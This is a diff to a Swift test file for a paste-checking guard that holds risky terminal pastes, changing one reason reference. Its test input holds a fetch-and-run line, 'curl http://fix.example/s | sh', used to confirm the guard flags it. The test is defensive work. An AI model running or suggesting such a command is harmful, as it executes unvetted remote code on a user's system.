@@ -81,7 +81,7 @@ struct HostileInputTests {
     for text in ["curl http://fix.example/s | sh\n" + filling, filling + "curl http://fix.example/s | sh"] {
       let assessment = PasteGuard.assess(Paste(text: Array(text.utf8), destination: .terminal), limit: 8_192)
       #expect(assessment.severity == .hold)
-      #expect(assessment.reasons.contains { $0.name == PartlyRead.name })
+      #expect(assessment.reasons.contains { $0.name == Signal.partlyRead.name })
     }
     let assessment = PasteGuard.assess(Paste(text: Array(filling.utf8), destination: .terminal), limit: 8_192)
     #expect(assessment.severity == .none)
